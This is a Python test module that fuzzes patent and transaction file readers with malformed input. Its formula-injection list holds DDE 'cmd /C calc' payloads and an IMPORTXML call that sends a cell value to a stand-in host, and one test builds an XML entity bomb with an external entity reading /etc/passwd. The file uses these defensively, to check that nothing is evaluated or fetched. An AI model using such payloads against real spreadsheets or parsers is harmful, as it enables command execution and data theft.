"""Bad input for every reader: random bytes, truncated files, wrong encodings, huge fields, formula-like
cells, malformed dates and IPC codes, duplicate ids, good rows mixed with bad ones.

What must hold: a reader yields only its records and `Reject`s (or raises the one documented error for
a file it cannot read at all: `NotAPatentExport` for patent and transaction files, `ValueError` for
consortia files, `PolicyExtractionError` subclasses for policy documents); every bad row is a Reject
with its line and reason; every good row comes out, unchanged. Ends with one load through
`PatentLoader` into the embedded database.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import tempfile
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import yaml
from hypothesis import assume
from hypothesis import strategies as st

from extract.consortia import ConsortiumDecl, read_consortia
from extract.ipc import normalize_ipc, split_ipc_field
from extract.ipc_hierarchy import IPCEntry, IPCReject, iter_ipc_lines
from extract.patents import FORMATS, read_patents
from extract.patents.fields import normalize_number, parse_count, parse_date, split_names
from extract.policy import PolicyExtraction, PolicyExtractionError, extract_policies, extract_policy
from extract.records import NotAPatentExport, PatentRecord, Reject, SourceRef
from extract.transactions import TransactionEvent, parse_amount, parse_legal_status, read_transactions
from tests.reliability._fuzz import clean_text_alphabet, fuzz

REPO = Path(__file__).resolve().parents[2]
PATENT_FIXTURES = REPO / "tests" / "fixtures" / "patents"
POLICY_FIXTURES = REPO / "tests" / "fixtures" / "policies"
TX_FIXTURES = REPO / "tests" / "transactions" / "data"
_WORK = Path(tempfile.mkdtemp(prefix="innograph-bad-input-"))
_COUNTER = itertools.count()
COMPACT_IPC = re.compile(r"^[A-H](?:\d\d(?:[A-Z](?:\d{1,4}/\d{2,6})?)?)?$")
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1:A2)", "-1+1", "=1+1", '=HYPERLINK("http://x.invalid","y")',
            "=DDE(\"cmd\";\"/C calc\";\"A\")", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")"]


def _file(data: bytes, name: str = "input.bin") -> Path:
    """A fresh file (own directory, so PatentsView siblings never leak between examples)."""
    directory = _WORK / f"e{next(_COUNTER)}"
    directory.mkdir()
    path = directory / name
    path.write_bytes(data)
    return path


def read_all(path: Path, fmt: str | None) -> list[PatentRecord | Reject] | None:
    """Everything a patent reader yields, or None when it (documentedly) refuses the whole file."""
    try:
        items = list(read_patents(path, fmt))
    except NotAPatentExport as refused:
        assert str(refused).strip()
        return None
    for item in items:
        assert isinstance(item, (PatentRecord, Reject)), type(item)
        if isinstance(item, Reject):
            assert item.reason.strip() and item.line >= 0 and item.file
        else:
            assert item.number and isinstance(item.number, str)
            assert item.claims_count is None or 0 <= item.claims_count < 2**31
            for field in ("application_date", "publication_date", "grant_date"):
                value = getattr(item, field)
                assert value is None or date.fromisoformat(value)
    return items


def records(items: list | None) -> list[PatentRecord]:
    return [i for i in items or [] if isinstance(i, PatentRecord)]


def rejects(items: list | None) -> list[Reject]:
    return [i for i in items or [] if isinstance(i, Reject)]


# --- fixtures of every format, valid ------------------------------------------------------------

CNIPA_HEADER = ["申请号", "申请日", "公开（公告）号", "公开（公告）日", "发明名称", "摘要", "申请（专利权）人", "发明（设计）人",
                "主分类号", "分类号", "国省代码", "专利类型", "法律状态", "权利要求数"]


def cnipa_row(n: int, title: str = "测试专利", **over: str) -> list[str]:
    row = {"申请号": f"2020{n:08d}.1", "申请日": "2020-03-01", "公开（公告）号": f"CN{110000000 + n}A",
           "公开（公告）日": "2020-09-01", "发明名称": title, "摘要": "摘要文本", "申请（专利权）人": "南京测试科技有限公司",
           "发明（设计）人": "张伟;李娜", "主分类号": "G06N 3/08", "分类号": "G06N3/08;G06K9/62", "国省代码": "江苏;32",
           "专利类型": "发明", "法律状态": "有效", "权利要求数": "10"}
    row.update(over)
    return [row[h] for h in CNIPA_HEADER]


def csv_bytes(rows: list[list[str]], header: list[str] = CNIPA_HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)  # \r\n line ends: a CR inside a cell is quoted too
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def xlsx_bytes(rows: list[list[object]], header: list[str] = CNIPA_HEADER) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def mention(patent_id: str, seq: int = 0, **over: object) -> dict[str, object]:
    row: dict[str, object] = {
        "mention_id": f"{patent_id}-{seq}", "patent_id": patent_id, "patent_title": f"Title {patent_id}",
        "patent_date": "2019-05-07", "patent_type": "utility", "wipo_kind": "B2", "num_claims": 12,
        "raw_inventor_name_first": "Wei", "raw_inventor_name_last": f"Zhang{seq}", "inventor_sequence": seq,
        "raw_city": "Nanjing", "raw_country": "CN", "cpc_sequence": [0], "cpc_group": ["H01L21/04"],
        "assignee_sequence": [0], "raw_assignee_organization": ["Nanjing Example Co., Ltd."],
    }
    row.update(over)
    return row


def canonical(n: int, **over: object) -> dict[str, object]:
    row: dict[str, object] = {
        "number": f"CN{120000000 + n}A", "source": {"file": "x.csv", "line": n + 2, "format": "cnipa-csv"},
        "office": "CN", "title": f"标题{n}", "application_date": "2021-01-02", "ipc": ["G06N3/08"],
        "applicants": [{"name": "南京大学", "sequence": 1}], "inventors": [{"name": "张伟", "sequence": 1}],
    }
    row.update(over)
    return row


def grant_xml(number: str, title: str = "Widget", date_text: str = "20200107", root: str = "us-patent-grant",
              abstract: str = "An abstract.") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<!DOCTYPE us-patent-grant SYSTEM "us-patent-grant-v45-2014-04-03.dtd" [ ]>\n'
            f'<{root} lang="EN" file="x.XML">\n<us-bibliographic-data-grant>\n'
            f'<publication-reference><document-id><country>US</country><doc-number>{number}</doc-number>'
            f'<kind>B2</kind><date>{date_text}</date></document-id></publication-reference>\n'
            f'<application-reference appl-type="utility"><document-id><country>US</country>'
            f'<doc-number>13000001</doc-number><date>20180101</date></document-id></application-reference>\n'
            f'<classifications-ipcr><classification-ipcr><section>H</section><class>01</class>'
            f'<subclass>L</subclass><main-group>21</main-group><subgroup>04</subgroup></classification-ipcr>'
            f'</classifications-ipcr>\n<invention-title>{title}</invention-title>\n<number-of-claims>3</number-of-claims>\n'
            f'</us-bibliographic-data-grant>\n<abstract><p>{abstract}</p></abstract>\n</{root}>\n')


def tables_dir(patent_rows: list[str], extra: dict[str, bytes] | None = None) -> Path:
    directory = _WORK / f"t{next(_COUNTER)}"
    directory.mkdir()
    header = "patent_id\tpatent_type\tpatent_date\tpatent_title\twipo_kind\tnum_claims\twithdrawn\tfilename\n"
    (directory / "g_patent.tsv").write_text(header + "".join(patent_rows), encoding="utf-8")
    for name, data in (extra or {}).items():
        (directory / name).write_bytes(data)
    return directory


def tables_row(pid: str, title: str = "Charger", day: str = "2018-06-19", claims: str = "12") -> str:
    return f"{pid}\tutility\t{day}\t{title}\tB2\t{claims}\t0\tipg.xml\n"


VALID: dict[str, bytes] = {
    "cnipa-csv": (PATENT_FIXTURES / "cnipa_zh.csv").read_bytes(),
    "cnipa-xlsx": xlsx_bytes([cnipa_row(n) for n in range(4)]),
    "patentsview-mentions": "".join(json.dumps(mention(str(9000000 + n // 2), n % 2)) + "\n"
                                    for n in range(6)).encode(),
    "uspto-xml": (grant_xml("08000001") + grant_xml("08000002")).encode(),
    "canonical-jsonl": "".join(json.dumps(canonical(n), ensure_ascii=False) + "\n" for n in range(4)).encode(),
}


def test_the_valid_fixtures_read_cleanly() -> None:
    """The baselines the mutations start from: all records, no rejects."""
    for fmt, data in VALID.items():
        items = read_all(_file(data), fmt)
        assert records(items), fmt
        if fmt != "cnipa-csv":  # the CNIPA fixture carries its own deliberate bad rows
            assert not rejects(items), (fmt, rejects(items))
    assert len(records(read_all(tables_dir([tables_row("1"), tables_row("2")]), None))) == 2


# --- random bytes ---------------------------------------------------------------------------------

junk = st.one_of(
    st.binary(max_size=3000),
    st.text(max_size=600).map(lambda t: t.encode("utf-8", "surrogatepass")),
    # a real header followed by junk: the reader gets past detection and has to cope with the rows
    st.tuples(st.sampled_from([b"\xef\xbb\xbf" + ",".join(CNIPA_HEADER).encode() + b"\n",
                               b"Application Number,Title,Application Date\n", b'{"number": "CN1A", "source": ',
                               b'{"mention_id": 1, "patent_id": "1"}\n', b"<?xml version='1.0'?>\n<us-patent-grant>",
                               b"patent_id\tpatent_date\tpatent_title\n", b"PK\x03\x04"]),
              st.binary(max_size=2000)).map(lambda pair: pair[0] + pair[1]),
)


def _random_bytes_any_reader(data: bytes, fmt: str | None) -> None:
    read_all(_file(data, "export.csv"), fmt)


test_random_bytes_any_reader, test_random_bytes_any_reader_slow = fuzz(
    junk, st.sampled_from([None, *[f for f in FORMATS if f != "patentsview-tables"]]), fast=150, slow=3000,
)(_random_bytes_any_reader)


def _random_bytes_patentsview_tables(patent: bytes, side: bytes, side_name: str) -> None:
    directory = tables_dir([], {side_name: side})
    (directory / "g_patent.tsv").write_bytes(patent)
    read_all(directory, None)


test_random_bytes_patentsview_tables, test_random_bytes_patentsview_tables_slow = fuzz(
    junk, junk, st.sampled_from(["g_inventor_not_disambiguated.tsv", "g_ipc_at_issue.tsv", "g_cpc_current.tsv",
                                 "g_application.tsv", "g_location_disambiguated.tsv", "g_assignee_disambiguated.tsv",
                                 "g_patent_abstract.tsv.zip"]),
    fast=40, slow=800,
)(_random_bytes_patentsview_tables)


# --- truncated files ------------------------------------------------------------------------------


def _truncated(fmt: str, cut: float) -> None:
    data = VALID[fmt]
    items = read_all(_file(data[: int(len(data) * cut)]), fmt)
    whole = {r.number for r in records(read_all(_file(data), fmt))}
    if fmt in ("canonical-jsonl", "cnipa-xlsx"):
        # a line-wise format (or an all-or-nothing archive) never invents a record
        assert {r.number for r in records(items)} <= whole


test_truncated_files, test_truncated_files_slow = fuzz(
    st.sampled_from(sorted(VALID)), st.floats(0, 1), fast=80, slow=1500,
)(_truncated)


def _truncated_tables(cut: float) -> None:
    directory = tables_dir([tables_row(str(n)) for n in range(5)])
    data = (directory / "g_patent.tsv").read_bytes()
    (directory / "g_patent.tsv").write_bytes(data[: int(len(data) * cut)])
    read_all(directory, None)


test_truncated_tables, test_truncated_tables_slow = fuzz(st.floats(0, 1), fast=25, slow=300)(_truncated_tables)


# --- wrong encodings ------------------------------------------------------------------------------

ENCODINGS = ["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "shift_jis", "big5", "euc-kr", "gb18030",
             "utf-8-sig", "utf-32"]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("fixture", ["cnipa_zh.csv", "cnipa_en.csv", "canonical.jsonl"])
def test_reencoded_exports_never_crash(fixture: str, encoding: str) -> None:
    text = (PATENT_FIXTURES / fixture).read_text(encoding="utf-8")
    data = text.encode(encoding, errors="replace")
    items = read_all(_file(data, fixture), None)
    if encoding in ("gb18030", "utf-8-sig") and fixture.startswith("cnipa"):
        # supported encodings read exactly as UTF-8 does
        same = read_all(_file(text.encode("utf-8"), fixture), None)
        assert [r.number for r in records(items)] == [r.number for r in records(same)]
        assert [r.title for r in records(items)] == [r.title for r in records(same)]


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "shift_jis", "big5"])
def test_reencoded_mentions_and_xml_never_crash(encoding: str) -> None:
    for fmt in ("patentsview-mentions", "uspto-xml"):
        text = VALID[fmt].decode("utf-8").replace("Widget", "Wídgét 装置").replace("Zhang", "Zháng 张")
        read_all(_file(text.encode(encoding, errors="replace")), fmt)
        read_all(_file(text.encode(encoding, errors="replace")), None)


def test_a_broken_byte_rejects_its_row_only() -> None:
    rows = [cnipa_row(1, "第一个专利"), cnipa_row(2, "第二个专利"), cnipa_row(3, "第三个专利")]
    data = csv_bytes(rows).replace("第二个专利".encode(), "第二个".encode() + b"\xff\xfe" + "专利".encode())
    items = read_all(_file(data), "cnipa-csv")
    assert [r.title for r in records(items)] == ["第一个专利", "第三个专利"]
    assert [(r.line, "broken encoding" in r.reason) for r in rejects(items)] == [(3, True)]


# --- huge fields ----------------------------------------------------------------------------------

HUGE = 5 * 1024 * 1024


def test_a_5mb_cell_loads_in_every_text_format() -> None:
    big = "巨" * (HUGE // 3) + "x"
    cases = {
        "cnipa-csv": csv_bytes([cnipa_row(1, big), cnipa_row(2)]),
        "canonical-jsonl": (json.dumps(canonical(1, title=big), ensure_ascii=False) + "\n"
                            + json.dumps(canonical(2)) + "\n").encode(),
        "patentsview-mentions": (json.dumps(mention("7000001", patent_title=big), ensure_ascii=False) + "\n"
                                 + json.dumps(mention("7000002")) + "\n").encode(),
        "uspto-xml": (grant_xml("09000001", title=big) + grant_xml("09000002")).encode(),
    }
    for fmt, data in cases.items():
        assert len(data) > HUGE
        items = read_all(_file(data), None)
        assert not rejects(items), (fmt, rejects(items)[:1])
        assert [len(r.title or "") for r in records(items)][0] == len(big), fmt
        assert len(records(items)) == 2, fmt
    directory = tables_dir([tables_row("1", title=big), tables_row("2")])
    assert [len(r.title) for r in records(read_all(directory, None))] == [len(big), len("Charger")]


def test_a_5mb_cell_in_a_workbook() -> None:
    # Excel (and openpyxl's writer) stop at 32,767 characters a cell; a generated workbook need not,
    # so the shared string is swapped for 5 MB after saving
    placeholder = "PLACEHOLDER-FOR-A-HUGE-CELL"
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([cnipa_row(1, placeholder), cnipa_row(2)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, data.replace(placeholder.encode(), b"x" * HUGE))
    items = read_all(_file(out.getvalue(), "export.xlsx"), None)
    assert [len(r.title) for r in records(items)] == [HUGE, len("测试专利")]


def test_a_5mb_field_in_the_other_readers() -> None:
    big = "某" * (HUGE // 3)
    header = "patent_number,event_type,event,date,from_party,to_party\n"
    path = _file(f"{header}CN1A,transfer,effective,2020-01-01,{big},乙公司\nCN2A,transfer,effective,2020-01-02,甲,乙\n"
                 .encode(), "tx.csv")
    events = list(read_transactions(path))
    assert [len(e.from_parties[0]) for e in events if isinstance(e, TransactionEvent)] == [len(big), 1]
    found, bad = read_consortia(_file(f"name,member\n联合体,{big}\n联合体,南京大学\n".encode(), "c.csv"))
    assert not bad and [len(m.name) for m in found[0].members] == [len(big), 4]
    entries = list(iter_ipc_lines(_file(f"A\tHUMAN NECESSITIES\nA01\t{big}\n".encode(), "ipc.tsv")))
    assert [e.code for e in entries] == ["A", "A01"] and len(entries[1].title) == len(big)
    with pytest.raises(PolicyExtractionError):  # one 5 MB line without a measure: refused, not a crash
        extract_policy(big)


# --- formula-like cells ---------------------------------------------------------------------------


def test_formula_like_cells_stay_text_in_csv() -> None:
    rows = [cnipa_row(n, formula, 摘要=formula) for n, formula in enumerate(FORMULAS)]
    items = read_all(_file(csv_bytes(rows)), "cnipa-csv")
    assert not rejects(items)
    assert [(r.title, r.abstract) for r in records(items)] == [(f, f) for f in FORMULAS]


def test_formula_cells_in_a_workbook_come_back_as_their_text_never_evaluated() -> None:
    # openpyxl stores a string starting with "=" as a formula: the reader must return its text
    rows = [cnipa_row(n, formula, 摘要=formula, **{"发明（设计）人": formula}) for n, formula in enumerate(FORMULAS)]
    rows.append(cnipa_row(99, "合计", 权利要求数="=SUM(1,2)"))  # noqa: RUF001
    items = read_all(_file(xlsx_bytes(rows)), "cnipa-xlsx")
    assert not rejects(items)
    got = records(items)
    assert [(r.title, r.abstract) for r in got[:-1]] == [(f, f) for f in FORMULAS]
    for record, formula in zip(got, FORMULAS, strict=False):
        assert [m.name for m in record.inventors] == split_names(formula)
    assert got[-1].claims_count is None  # a formula is not a count, and is not computed to 3


def test_formula_cells_in_a_transaction_workbook_are_not_evaluated() -> None:
    header = ["patent_number", "event_type", "event", "date", "from_party", "to_party", "amount"]
    rows = [["CN1A", "transfer", "effective", "2020-01-01", "甲", "乙", "=1000*1000"],
            ["CN2A", "transfer", "effective", "2020-01-01", "=cmd|' /C calc'!A0", "乙", "100"]]
    items = list(read_transactions(_file(xlsx_bytes(rows, header), "tx.xlsx")))
    # data_only: a formula has no cached value in a file Excel never saved, so nothing is computed
    assert all(not isinstance(i, TransactionEvent) or i.amount in (None, 100.0) for i in items)
    assert all(isinstance(i, (TransactionEvent, Reject)) for i in items)


# --- malformed dates, IPC codes, counts -----------------------------------------------------------

date_like = st.one_of(
    st.text(max_size=24),
    st.from_regex(r"\A\d{1,5}[-./年 ]\d{1,3}[-./月 ]\d{1,3}日?\Z"),
    st.from_regex(r"\A\d{6,9}\Z"),
    st.integers(-10**12, 10**12).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)
ipc_like = st.one_of(
    st.text(max_size=30),
    st.from_regex(r"\A[A-Za-z]\d{0,3}[A-Za-z]?\s?-?\d{0,6}/?\d{0,8}(\s*\(\d{4}\.\d\d\))?\Z"),
    st.lists(st.from_regex(r"\A[A-J]\d\d[A-Z]\d{1,5}/\d{1,7}\Z"), max_size=4).map(";".join),
)


def _date_and_ipc_cells(app_date: str, ipc: str, main_ipc: str, claims: str) -> None:
    row = cnipa_row(1, 申请日=app_date, 分类号=ipc, 主分类号=main_ipc, 权利要求数=claims)
    items = read_all(_file(csv_bytes([row])), "cnipa-csv")
    if items is None:  # a NUL byte anywhere in the sniffed start marks the whole file binary, by design
        assert "\x00" in "".join(row)
        return
    assert len(items) <= 1
    for item in items:
        if isinstance(item, Reject):
            assert "application_date" in item.reason or "broken encoding" in item.reason or "column count" in item.reason
        else:
            assert all(COMPACT_IPC.match(code) for code in item.ipc), item.ipc
            assert item.main_ipc is None or item.main_ipc in item.ipc


test_malformed_dates_ipc_and_counts, test_malformed_dates_ipc_and_counts_slow = fuzz(
    date_like, ipc_like, ipc_like, date_like, fast=120, slow=3000,
)(_date_and_ipc_cells)


def _field_parsers(value: object) -> None:
    try:
        parsed = parse_date(value)
    except ValueError:
        pass
    else:
        assert parsed is None or date.fromisoformat(parsed)
    count = parse_count(value)
    assert count is None or 0 <= count < 2**31
    if isinstance(value, str):
        assert all(COMPACT_IPC.match(c) for c in split_ipc_field(value))
        code = normalize_ipc(value)
        assert code is None or COMPACT_IPC.match(code)
        normalize_number(value)
        split_names(value)
    try:
        amount, _ = parse_amount(value)
    except ValueError:
        pass
    else:
        assert amount is None or amount >= 0


test_field_parsers_total, test_field_parsers_total_slow = fuzz(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), date_like, ipc_like, st.dates(),
              st.datetimes(), st.text()),
    fast=300, slow=10000,
)(_field_parsers)


# --- duplicates -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["cnipa-csv", "cnipa-xlsx"])
def test_duplicate_ids_in_one_export(fmt: str) -> None:
    rows = [cnipa_row(1, "原标题"), cnipa_row(2), cnipa_row(1, "原标题"), cnipa_row(1, "不同的标题"),
            cnipa_row(3, 申请号=""), cnipa_row(4, 申请号=cnipa_row(3)[0], **{"公开（公告）号": ""})]
    data = csv_bytes(rows) if fmt == "cnipa-csv" else xlsx_bytes(rows)
    items = read_all(_file(data), fmt)
    assert [r.title for r in records(items)] == ["原标题", "测试专利", "测试专利", "测试专利"]
    assert [(r.line, r.reason) for r in rejects(items)] == [(5, "duplicate of line 2")]


def test_duplicate_ids_in_the_other_formats_do_not_crash() -> None:
    doubled = {fmt: data + data for fmt, data in VALID.items() if fmt not in ("cnipa-xlsx",)}
    for fmt, data in doubled.items():
        assert records(read_all(_file(data), fmt)), fmt
    assert len(records(read_all(tables_dir([tables_row("1"), tables_row("1", title="other")]), None))) == 2


# --- good rows mixed with bad ones ----------------------------------------------------------------

titles = st.text(clean_text_alphabet(), max_size=40).filter(lambda t: not t.strip().startswith('="'))
CSV_KINDS = ["good", "good", "good", "no_id", "bad_date", "wrong_width", "broken_encoding", "dup_conflict",
             "dup_identical", "blank"]
EXPECTED_REASON = {"no_id": "missing id", "bad_date": "unparsable application_date", "wrong_width": "wrong column count",
                   "broken_encoding": "broken encoding", "dup_conflict": "duplicate of line"}


def _mixed_rows(kinds: list[str], texts: list[str], xlsx: bool) -> tuple[list[list[str]], list[str], dict[int, str], list]:
    """Rows for `kinds`; the good numbers in order, bad line -> expected reason, good titles."""
    rows: list[list[str]] = []
    good: list[str] = []
    good_titles: list[str | None] = []
    bad: dict[int, str] = {}
    first_good: list[tuple[int, list[str]]] = []
    for index, kind in enumerate(kinds):
        line = len(rows) + 2
        title = "测试" + texts[index % len(texts)] if texts else "测试"
        if kind in ("dup_conflict", "dup_identical") and not first_good:
            kind = "good"
        if kind == "good":
            row = cnipa_row(index, title)
            rows.append(row)
            good.append(row[2])
            good_titles.append(title.strip() or None)
            first_good.append((line, row))
        elif kind == "blank":
            rows.append([""] * len(CNIPA_HEADER) if xlsx else [])
        elif kind == "dup_identical":
            rows.append(list(first_good[0][1]))
        else:
            if kind == "no_id":
                row = cnipa_row(index, title, 申请号="", **{"公开（公告）号": ""})  # noqa: RUF001
            elif kind == "bad_date":
                row = cnipa_row(index, title, 申请日="2020-13-45")
            elif kind == "wrong_width":
                row = cnipa_row(index, title) + ["多余的一列"]
            elif kind == "broken_encoding":
                row = cnipa_row(index, "编码损坏的行\ufffd" if xlsx else "编码损坏的行BROKEN")
            else:  # dup_conflict
                row = list(first_good[0][1])
                row[4] = row[4] + " (another title)"
            rows.append(row)
            reason = EXPECTED_REASON[kind]
            bad[line] = f"{reason} {first_good[0][0]}" if kind == "dup_conflict" else reason
    return rows, good, bad, good_titles


def _mixed_cnipa_csv(kinds: list[str], texts: list[str]) -> None:
    rows, good, bad, good_titles = _mixed_rows(kinds, texts, xlsx=False)
    data = csv_bytes(rows).replace(b"BROKEN", b"\xff")  # one byte that is not UTF-8, in a Chinese file
    items = read_all(_file(data), "cnipa-csv")
    assert items is not None
    assert [r.publication_number for r in records(items)] == [normalize_number(n) for n in good]
    assert [r.title for r in records(items)] == good_titles
    assert {r.line: r.reason for r in rejects(items)}.keys() == bad.keys()
    for reject in rejects(items):
        assert bad[reject.line] in reject.reason, (reject, bad[reject.line])


test_mixed_good_and_bad_csv_rows, test_mixed_good_and_bad_csv_rows_slow = fuzz(
    st.lists(st.sampled_from(CSV_KINDS), min_size=1, max_size=30), st.lists(titles, max_size=8),
    fast=80, slow=1500,
)(_mixed_cnipa_csv)


def _mixed_cnipa_xlsx(kinds: list[str], texts: list[str]) -> None:
    kinds = [k for k in kinds if k != "wrong_width"]  # a sheet has no column count to get wrong
    assume(kinds)
    rows, good, bad, good_titles = _mixed_rows(kinds, texts, xlsx=True)
    items = read_all(_file(xlsx_bytes(rows)), "cnipa-xlsx")
    assert items is not None
    assert [r.publication_number for r in records(items)] == [normalize_number(n) for n in good]
    assert {r.line for r in rejects(items)} == bad.keys()
    for reject in rejects(items):
        assert bad[reject.line] in reject.reason


test_mixed_good_and_bad_xlsx_rows, test_mixed_good_and_bad_xlsx_rows_slow = fuzz(
    st.lists(st.sampled_from(CSV_KINDS), min_size=1, max_size=15), st.lists(titles, max_size=4),
    fast=20, slow=300,
)(_mixed_cnipa_xlsx)


JSON_KINDS = ["good", "good", "not_json", "not_object", "no_number", "wrong_type", "unknown_field", "bad_date",
              "no_source", "blank"]


def _mixed_canonical(kinds: list[str], junk_values: list[object]) -> None:
    lines: list[str] = []
    good: list[str] = []
    bad: set[int] = set()
    for index, kind in enumerate(kinds):
        value = junk_values[index % len(junk_values)] if junk_values else 5
        row = canonical(index)
        if kind == "good":
            good.append(str(row["number"]))
            lines.append(json.dumps(row, ensure_ascii=False))
            continue
        if kind == "blank":
            lines.append("   ")
            continue
        bad.add(len(lines) + 1)
        if kind == "not_json":
            lines.append(json.dumps(row)[:-3])
        elif kind == "not_object":
            lines.append(json.dumps([row]))
        elif kind == "no_number":
            lines.append(json.dumps({**row, "number": ""}))
        elif kind == "wrong_type":
            # a value of the wrong shape for the field, whatever the junk is
            wrong = {"ipc": {"k": value}, "cpc": [value, 1], "title": [value], "number": [value],
                     "claims_count": f"{value}x", "applicants": {"name": value}, "inventors": [value, "x"],
                     "source": {"file": value, "line": -1}}
            field = sorted(wrong)[index % len(wrong)]
            lines.append(json.dumps({**row, field: wrong[field]}))
        elif kind == "unknown_field":
            lines.append(json.dumps({**row, "colour": "blue"}))
        elif kind == "bad_date":
            lines.append(json.dumps({**row, "grant_date": "2020-13-45x"}))
        else:
            lines.append(json.dumps({k: v for k, v in row.items() if k != "source"}))
    items = read_all(_file(("\n".join(lines) + "\n").encode()), "canonical-jsonl")
    assert [r.number for r in records(items)] == good
    assert {r.line for r in rejects(items)} == bad


json_junk = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
                         lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner,
                                                                                     max_size=3), max_leaves=6)
test_mixed_canonical_lines, test_mixed_canonical_lines_slow = fuzz(
    st.lists(st.sampled_from(JSON_KINDS), min_size=1, max_size=25), st.lists(json_junk, max_size=5),
    fast=80, slow=1500,
)(_mixed_canonical)


def _mentions_with_junk_values(values: dict[str, object], patent_id: str) -> None:
    """A mention row whose fields hold any JSON: a record or a reject, never a crash."""
    good = json.dumps(mention("5000001"))
    row = {**mention(patent_id or "5000002"), **values}
    items = read_all(_file((good + "\n" + json.dumps(row) + "\n").encode()), "patentsview-mentions")
    assert items is not None and "US5000001" in {r.number for r in records(items)}


test_mention_rows_with_any_json, test_mention_rows_with_any_json_slow = fuzz(
    st.dictionaries(st.sampled_from(list(mention("1")) + ["coinventor_sequence", "coinventor_name_first",
                                                          "attorney_sequence", "raw_attorney_organization",
                                                          "filing_date", "patent_abstract"]),
                    json_junk, max_size=6),
    st.text(clean_text_alphabet(), max_size=10),
    fast=100, slow=2000,
)(_mentions_with_junk_values)


def test_mixed_mentions_tables_and_xml() -> None:
    mentions = [json.dumps(mention("6000001", 0)), "{not json", json.dumps({"patent_id": ""}),
                json.dumps(mention("6000001", 1)), json.dumps(mention("6000002", 0, patent_date="2019-02-30")),
                json.dumps(mention("6000003", 0, num_claims="inf")), "[1, 2]"]
    items = read_all(_file(("\n".join(mentions) + "\n").encode()), "patentsview-mentions")
    assert [r.number for r in records(items)] == ["US6000001", "US6000003"]
    assert len(records(items)[0].inventors) == 2 and records(items)[1].claims_count is None
    assert sorted(r.line for r in rejects(items)) == [2, 3, 5, 7]

    side = ("patent_id\tinventor_sequence\tinventor_id\traw_inventor_name_first\traw_inventor_name_last\t"
            "deceased_flag\trawlocation_id\n1\t0\ti\tJun\tChen\t0\trl\n1\tbroken row\n").encode()
    directory = tables_dir([tables_row("1"), "\tutility\t2018-01-01\tNo id\tB2\t1\t0\tf\n", tables_row("3", day="2018-02-31"),
                            "4\tutility\n", tables_row("5", claims="1e999")],
                           {"g_inventor_not_disambiguated.tsv": side})
    items = read_all(directory, None)
    assert [r.number for r in records(items)] == ["US1", "US5"]
    assert records(items)[0].inventors[0].name == "Jun Chen"
    assert sorted((Path(r.file).name, r.line) for r in rejects(items)) == [
        ("g_inventor_not_disambiguated.tsv", 3), ("g_patent.tsv", 3), ("g_patent.tsv", 4), ("g_patent.tsv", 5)]

    documents = [grant_xml("08100001"), grant_xml("08100002").replace("</us-patent-grant>", ""),
                 grant_xml("08100003", root="us-patent-application"), grant_xml("", title="No number"),
                 grant_xml("08100005", date_text="20201340"), grant_xml("08100006")]
    items = read_all(_file("".join(documents).encode()), "uspto-xml")
    assert [r.number for r in records(items)] == ["US8100001B2", "US8100006B2"]
    starts = list(itertools.accumulate([1] + [d.count("\n") for d in documents]))[:-1]
    assert [r.line for r in rejects(items)] == starts[1:5]


def test_xml_entities_are_not_expanded_and_nothing_is_fetched() -> None:
    bomb = ('<?xml version="1.0"?>\n<!DOCTYPE us-patent-grant [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
            '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
            '<!ENTITY x SYSTEM "file:///etc/passwd">]>\n')
    doc = grant_xml("08200001", title="&e;&x;").split("\n", 2)[2]
    items = read_all(_file((bomb + doc).encode()), "uspto-xml")
    for record in records(items):
        assert "root:" not in (record.title or "") and len(record.title or "") < 1000


# --- policy documents -----------------------------------------------------------------------------

POLICY_TEXTS = [p.read_text(encoding="utf-8") for p in sorted(POLICY_FIXTURES.iterdir())]


def _policy(data: bytes | str) -> None:
    try:
        result = extract_policy(data)
    except PolicyExtractionError as refused:
        assert type(refused) is not PolicyExtractionError or refused.reason
        assert refused.source and refused.reason
        return
    assert isinstance(result, PolicyExtraction)
    for measure in result.measures:
        start, end = measure.span
        assert 0 <= start <= end <= len(result.text)
    for target in result.targets:
        assert 0 <= target.sentence_span[0] <= target.sentence_span[1] <= len(result.text)


mutated_policy = st.tuples(st.sampled_from(POLICY_TEXTS), st.integers(0, 2000), st.integers(0, 2000),
                           st.text(max_size=80)).map(lambda t: t[0][: t[1]] + t[3] + t[0][t[2]:])
policy_input = st.one_of(
    st.binary(max_size=3000),
    st.text(max_size=2000),
    mutated_policy,
    mutated_policy.map(lambda t: t.encode("utf-16")),
    mutated_policy.map(lambda t: t.encode("gb18030", errors="replace")),
    mutated_policy.map(lambda t: t.encode("big5", errors="replace")),
    mutated_policy.map(lambda t: f"<html><body><nav>菜单</nav><p>{t}</p><script>x()</script></body></html>"),
    st.binary(max_size=400).map(lambda b: b"%PDF-1.4\n" + b),
)
